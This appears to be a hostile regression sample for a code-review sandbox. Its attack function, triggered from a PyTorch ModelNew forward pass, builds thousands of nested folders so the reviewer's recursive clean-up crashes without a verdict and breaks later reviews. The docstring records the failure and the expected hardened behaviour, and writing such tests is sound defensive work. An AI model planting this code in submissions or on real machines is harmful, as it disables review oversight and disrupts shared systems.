"""Leaves thousands of folders nested inside one another (``depth``, 3,000 by default) in its own
folder, the folder its sources were copied to and its transfer folder, made through descriptors so
no path grows past PATH_MAX. The reviewer removed those folders with ``shutil.rmtree``, which
recurses once per level: the clean-up raised RecursionError, the review crashed without a verdict,
and the sandbox folder it left behind made every later review on the machine crash the same way
(the stale-folder sweep at start). Expected: the call answers, a new child's sources are copied
over the nest, the session's folder is removed at close, and the review ends in a verdict."""

import os


def _nest(folder: str, depth: int) -> int:
    try:
        os.mkdir(folder)
        fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    except OSError:
        return 0
    made = 0
    for _ in range(depth):
        try:
            os.mkdir("d", dir_fd=fd)
            nxt = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        except OSError:
            break
        os.close(fd)
        fd, made = nxt, made + 1
    os.close(fd)
    return made


def attack(t: dict) -> dict:
    depth = int(t.get("depth", 3000))
    here = os.getcwd()
    folders = [here, os.path.dirname(os.path.abspath(__file__))] + [os.path.join(os.path.dirname(here), n) for n in sorted(os.listdir(os.path.dirname(here)))
                        if n.startswith("xfer")]
    made = {}
    for folder in folders:
        if os.access(folder, os.W_OK):
            made[os.path.relpath(folder, os.path.dirname(here))] = _nest(os.path.join(folder, f"nest-{os.getpid()}"), depth)
    return {"nested": made}


def _targets() -> dict:
    import json
    from pathlib import Path

    p = Path(__file__).with_name("targets.json")
    return json.loads(p.read_text()) if p.exists() else {}


try:
    import torch.nn as _nn
except ImportError:  # run as a script
    _nn = None

if _nn is not None:
    class ModelNew(_nn.Module):
        def forward(self, x):
            import json

            raise RuntimeError("KREVIEW-HOSTILE " + json.dumps(attack(_targets())))

if __name__ == "__main__":
    import json
    import sys

    print("KREVIEW-HOSTILE " + json.dumps(attack(json.loads(sys.argv[1]))))
